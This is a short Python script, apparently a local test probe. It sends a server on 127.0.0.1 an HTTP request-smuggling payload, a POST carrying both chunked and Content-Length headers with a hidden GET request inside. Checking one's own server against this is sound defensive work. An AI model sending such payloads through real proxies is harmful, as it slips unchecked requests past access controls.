"""A request that tells its length twice: a proxy that believes the one, before a server that believes the other, lets
the rest of the body through as a request that nobody checked.
"""

from __future__ import annotations

import socket
import sys


def request(host: str) -> bytes:
    hidden = f"GET /v1/models HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    head = f"POST /v1/detect HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
    told = f"Transfer-Encoding: chunked\r\nContent-Length: {5 + len(hidden)}\r\n\r\n"
    return head.encode() + told.encode() + b"0\r\n\r\n" + hidden


def answers(port: int) -> bytes:
    """All that a server on this machine says to it."""
    with socket.create_connection(("127.0.0.1", port), timeout=60) as client:
        client.sendall(request(f"127.0.0.1:{port}"))
        client.shutdown(socket.SHUT_WR)
        said = b""
        while piece := client.recv(65536):
            said += piece
        return said


if __name__ == "__main__":
    print(answers(int(sys.argv[1])).decode())
